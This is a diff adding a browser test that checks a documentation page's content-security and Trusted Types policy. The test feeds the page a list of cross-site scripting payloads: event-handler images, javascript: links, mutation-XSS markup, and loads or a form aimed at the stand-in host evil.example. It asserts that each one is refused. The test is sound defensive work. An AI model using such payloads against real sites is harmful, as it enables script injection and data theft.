@@ -95,9 +95,62 @@ def test_the_page_needs_no_other_host_and_leads_to_a_streamed_answer(
     assert text_of_events(events) == text_of("echo", asked)
     question.locator(".responses-wrapper").screenshot(path=tmp_path / "answer.png")
 
+    # What Swagger UI makes of Markdown is shown, and went through the page's policy for markup.
+    assert page.locator(".renderedMarkdown p").count() > 10
     assert browser.violations == []
     # The log-in that was refused; nothing else went wrong.
     assert [error for error in browser.errors if "401" not in error] == []
     assert {str(httpx.URL(url).join("/")) for url in browser.requests if url[:5] != "data:"} == {
         f"{stack.url}/"
     }
+
+
+# Each would run a script, or load something, if it became a part of the page.
+MARKUP = (
+    "<img src=x onerror='window.ran = true'>",
+    "<p onclick='window.ran = true'>x</p>",
+    "<a href='javascript:window.ran = true'>x</a>",
+    "<a href=' java\tscript:window.ran = true'>x</a>",
+    "<iframe srcdoc='<script>parent.ran = true</script>'></iframe>",
+    "<svg><script>window.ran = true</script></svg>",
+    "<math><mi><style><!--</style><img src=x onerror='window.ran = true'>--></mi></math>",
+    "<script>window.ran = true</script>",
+    "<link rel=stylesheet href=https://evil.example>",
+    "<style>@import 'https://evil.example'</style>",
+    "<form action=https://evil.example><input name=token></form>",
+)
+
+
+def test_no_string_becomes_a_script_or_markup_that_could_run_on_the_page(
+    stack: Stack, browser: Browser
+) -> None:
+    page = browser.page
+    page.goto(f"{stack.url}/docs")
+    expect(page.locator(".opblock").first).to_be_visible(timeout=PATIENCE_MS)
+    assert browser.violations == []
+    refused = page.evaluate(
+        """(markup) => {
+          const told = (act) => { try { act(); return "taken"; } catch (error) { return error.name; } };
+          const sinks = markup.map((text) => told(() => {
+            document.body.appendChild(document.createElement("div")).innerHTML = text;
+          }));
+          sinks.push(told(() => { document.createElement("script").src = "https://evil.example/"; }));
+          sinks.push(told(() => { document.createElement("script").text = "window.ran = true"; }));
+          sinks.push(told(() => { document.body.setAttribute("onclick", "window.ran = true"); }));
+          sinks.push(told(() => { trustedTypes.createPolicy("other", {}); }));
+          sinks.push(told(() => { trustedTypes.createPolicy("default", {}); }));
+          return sinks;
+        }""",
+        list(MARKUP),
+    )
+    assert refused == ["TypeError"] * (len(MARKUP) + 5)
+    assert page.evaluate("window.ran") is None
+    assert len(browser.violations) >= len(MARKUP)
+    shown = page.evaluate(
+        """() => {
+          const place = document.body.appendChild(document.createElement("div"));
+          place.innerHTML = "<p>An <a href='/docs' target='_blank'>address</a>, <code>code</code>.</p>";
+          return place.innerText;
+        }"""
+    )
+    assert shown == "An address, code."
